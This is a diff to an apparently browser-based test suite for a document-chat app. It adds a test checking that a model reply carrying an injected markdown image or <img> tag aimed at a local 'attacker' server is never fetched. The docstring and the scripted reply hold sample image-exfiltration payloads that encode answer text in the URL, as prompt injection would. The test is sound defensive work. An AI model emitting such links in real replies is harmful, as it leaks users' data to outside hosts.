@@ -11,6 +11,7 @@ from __future__ import annotations
 import os
 import shutil
 import socket
+import threading
 import time
 from pathlib import Path
 
@@ -125,6 +126,45 @@ def test_a_second_session_does_not_see_the_first_ones_documents(browser, fake_ap
         time.sleep(0.2)
     assert not folder.exists()
     second.context.close()
+
+
+def test_a_streamed_remote_image_is_never_fetched(browser, docs):
+    """A model that obeys an injected `![x](http://attacker/?q=…)` mid-stream (or writes
+    an <img> tag) must not make the browser send anything to that address."""
+    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+    fetched: list[str] = []
+
+    class Attacker(BaseHTTPRequestHandler):
+        def do_GET(self):
+            fetched.append(self.path)
+            self.send_response(200)
+            self.send_header("Content-Type", "image/gif")
+            self.end_headers()
+            self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")
+
+        def log_message(self, *args):
+            pass
+
+    attacker = ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
+    threading.Thread(target=attacker.serve_forever, daemon=True).start()
+    leak = f"http://127.0.0.1:{attacker.server_port}/leak.gif?q=27-days"
+    reply = f"Every employee receives 27 days ![x]({leak}) of paid annual leave <img src=\"{leak}&tag\"> per year [1]."
+    models = Models(Settings(mode="hybrid"), embedder=HashEmbedder(), reranker=None, generator=ScriptedGenerator([("annual leave", reply)]))
+    demo, url = serve(models)
+    try:
+        page = open_app(browser, url)
+        requested: list[str] = []
+        page.on("request", lambda r: requested.append(r.url))
+        upload(page, docs["pdf"])
+        ask(page, QUESTION)
+        page.wait_for_timeout(500)
+        assert "27 days" in page.locator(BOT).last.inner_text()
+        assert not fetched and not [r for r in requested if "leak.gif" in r], (fetched, requested)
+        page.context.close()
+    finally:
+        demo.close()
+        attacker.shutdown()
 
 
 @pytest.mark.slow
